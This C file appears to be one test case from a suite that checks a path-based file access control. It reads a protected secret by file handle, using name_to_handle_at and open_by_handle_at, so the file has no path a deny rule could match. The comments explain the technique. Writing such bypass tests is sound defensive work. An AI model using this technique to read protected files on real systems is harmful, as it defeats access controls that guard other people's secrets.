// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. Reads a secret by its handle after the kernel has forgotten its directory: the file then hangs
 * in the air, without a name that a rule could deny. Source: exportfs, "disconnected dentry";
 * root-paths, "a maybe disconnected dentry". Control: the secret is read.
 */
#define _GNU_SOURCE
#include <fcntl.h>

#include "attack.h"
#include "files.h"

void attack(void)
{
	struct {
		struct file_handle handle;
		unsigned char bytes[128];
	} named = { .handle.handle_bytes = 128 };
	int place, id;

	stage("disk");
	place = open(DISK, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (place < 0 || name_to_handle_at(AT_FDCWD, DISK_SECRET, &named.handle, &id, 0))
		broken("name_to_handle_at");
	stage("drop");
	judge_descriptor(open_by_handle_at(place, &named.handle, O_RDONLY | O_CLOEXEC), STAGE_SECRET);
}
